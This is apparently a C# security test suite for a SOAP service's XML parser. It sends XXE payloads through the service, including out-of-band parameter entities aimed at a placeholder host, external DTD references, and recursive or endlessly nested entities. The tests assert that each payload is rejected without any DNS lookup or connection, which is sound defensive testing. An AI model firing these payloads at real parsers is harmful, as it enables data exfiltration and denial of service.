using System.Diagnostics;
using System.Diagnostics.Metrics;
using System.Net;
using GupSoap.Contracts.Rp;
using GupSoap.Core.Xml;
using GupSoap.Tests.Support;

namespace GupSoap.Tests.Security;

/// <summary>
/// SECURITY.md P3, P4, P5 and P9 where the reach of the parser matters: no name is resolved and no address is
/// contacted for a DTD, entity recursion fails within a stated time, and the depth cap stops reading an endless input.
/// </summary>
[TestClass]
public sealed class ParserReachAttackTests
{
    /// <summary>The stated bound for an entity attack (P5, also applied to billion laughs in <see cref="ParserAttackTests"/>); generous for a loaded 2-core machine, the fault usually takes milliseconds.</summary>
    internal static readonly TimeSpan EntityBound = TimeSpan.FromSeconds(5);

    private static readonly string ReadAction = RpOperations.Action(RpOperations.ReadData);

    private static Uri Endpoint => SharedServer.Instance.Rp("hss");

    private static string ValidBody => SoapMessages.Read("sip:alice@example.org", "sub:SubscriberInfo", "/sub:SubscriberInfo/sub:DisplayName");

    [TestMethod]
    public async Task ParameterEntityAtHostname_CausesNoDnsLookup()
    {
        var host = $"oob-{Guid.NewGuid():N}.example.com";
        using var lookups = new DnsLookups();
        // The probe sees lookups at all: a lookup of localhost made here is recorded.
        await Dns.GetHostAddressesAsync("localhost");
        Assert.IsTrue(lookups.Saw("localhost"), "the DNS probe must observe lookups of this process");

        var envelope = $"<?xml version=\"1.0\"?><!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM \"http://{host}/oob.dtd\"> %p;]>"
            + SoapMessages.Envelope11(ValidBody)[38..];
        await AssertRejectedAsync(envelope);
        var generalEntity = $"<?xml version=\"1.0\"?><!DOCTYPE s:Envelope [<!ENTITY e SYSTEM \"http://{host}/e\">]>"
            + SoapMessages.Envelope11(SoapMessages.Read("&e;", "sub:SubscriberInfo", "/sub:SubscriberInfo"))[38..];
        await AssertRejectedAsync(generalEntity);

        Assert.IsFalse(lookups.Saw(host), "the hostname named by the DTD was resolved");
    }

    [TestMethod]
    public async Task DoctypeWithExternalUrl_MakesNoConnection()
    {
        using var listener = new LoopbackListener();
        foreach (var doctype in new[]
        {
            $"<!DOCTYPE s:Envelope SYSTEM \"{listener.Url("soap.dtd")}\">",
            $"<!DOCTYPE s:Envelope PUBLIC \"-//Evil//DTD Soap//EN\" \"{listener.Url("public.dtd")}\">",
            $"<!DOCTYPE s:Envelope SYSTEM \"{listener.Url("internal.dtd")}\" [<!ELEMENT s:Envelope ANY>]>",
        })
        {
            await AssertRejectedAsync("<?xml version=\"1.0\"?>" + doctype + SoapMessages.Envelope11(ValidBody)[38..]);
        }

        Assert.AreEqual(0, listener.Connections);
    }

    [TestMethod]
    public async Task RecursiveEntities_FailWithinStatedTime()
    {
        foreach (var entities in new[]
        {
            "<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">",
            "<!ENTITY self \"x&self;x\">",
        })
        {
            var envelope = $"<?xml version=\"1.0\"?><!DOCTYPE s:Envelope [{entities}]>"
                + SoapMessages.Envelope11(SoapMessages.Read(entities.Contains("self", StringComparison.Ordinal) ? "&self;" : "&a;", "sub:SubscriberInfo", "/sub:SubscriberInfo"))[38..];
            var clock = Stopwatch.StartNew();
            await AssertRejectedAsync(envelope);
            Assert.IsLessThan(EntityBound, clock.Elapsed, $"took {clock.Elapsed}");
        }
    }

    [TestMethod]
    public void EndlessNesting_FailsBeforeTheRestIsRead()
    {
        var limits = new XmlLimits();
        using var endless = new EndlessNesting();

        var result = SafeXmlLoader.Load(endless, limits);

        Assert.IsFalse(result.Success);
        Assert.Contains($"deeper than {limits.MaxDepth}", result.Error!);
        // The reader buffers a few KB ahead; the cap is hit after 65 open tags, long before a body limit's worth.
        Assert.IsLessThan(64 * 1024L, endless.BytesRead, $"read {endless.BytesRead} bytes of an endless input");
    }

    [TestMethod]
    public void NestingEqualToCap_IsAccepted()
    {
        var limits = new XmlLimits();
        string Nested(int depth) => string.Concat(Enumerable.Repeat("<a>", depth)) + "x" + string.Concat(Enumerable.Repeat("</a>", depth));

        var atCap = SafeXmlLoader.Load(Nested(limits.MaxDepth), limits);
        var overCap = SafeXmlLoader.Load(Nested(limits.MaxDepth + 1), limits);

        Assert.IsTrue(atCap.Success, atCap.Error);
        Assert.AreEqual(limits.MaxDepth, atCap.Document!.Descendants().Count());
        Assert.IsFalse(overCap.Success);
        Assert.Contains($"deeper than {limits.MaxDepth}", overCap.Error!);
    }

    private static async Task AssertRejectedAsync(string envelope)
    {
        var answer = await SoapHttp.PostAsync(Endpoint, envelope, ReadAction);
        Assert.AreNotEqual(HttpStatusCode.OK, answer.Http, answer.Text);
        Assert.IsNotNull(answer.Fault, "expected a SOAP fault: " + answer.Text);
        Assert.AreEqual("Failed", answer.StatusCode);
        await ParserAttackTests.AssertStillServesAsync();
    }

    /// <summary>Names resolved by this process, seen through the runtime's own <c>dns.lookup.duration</c> measurements.</summary>
    private sealed class DnsLookups : IDisposable
    {
        private readonly MeterListener _listener = new();
        private readonly System.Collections.Concurrent.ConcurrentDictionary<string, bool> _names = new(StringComparer.OrdinalIgnoreCase);

        public DnsLookups()
        {
            _listener.InstrumentPublished = (instrument, listener) =>
            {
                if (instrument.Meter.Name == "System.Net.NameResolution")
                {
                    listener.EnableMeasurementEvents(instrument);
                }
            };
            _listener.SetMeasurementEventCallback<double>((_, _, tags, _) =>
            {
                foreach (var tag in tags)
                {
                    if (tag.Key == "dns.question.name" && tag.Value is string name)
                    {
                        _names[name] = true;
                    }
                }
            });
            _listener.Start();
        }

        public bool Saw(string name) => _names.ContainsKey(name);

        public void Dispose() => _listener.Dispose();
    }

    /// <summary><c>&lt;a&gt;</c> forever, counting what the reader took.</summary>
    private sealed class EndlessNesting : Stream
    {
        private static readonly byte[] Tag = "<a>"u8.ToArray();
        private long _position;

        public long BytesRead => _position;

        public override bool CanRead => true;

        public override bool CanSeek => false;

        public override bool CanWrite => false;

        public override long Length => throw new NotSupportedException();

        public override long Position { get => _position; set => throw new NotSupportedException(); }

        public override int Read(byte[] buffer, int offset, int count)
        {
            for (var i = 0; i < count; i++)
            {
                buffer[offset + i] = Tag[(int)((_position + i) % Tag.Length)];
            }

            _position += count;
            return count;
        }

        public override void Flush()
        {
        }

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();

        public override void SetLength(long value) => throw new NotSupportedException();

        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
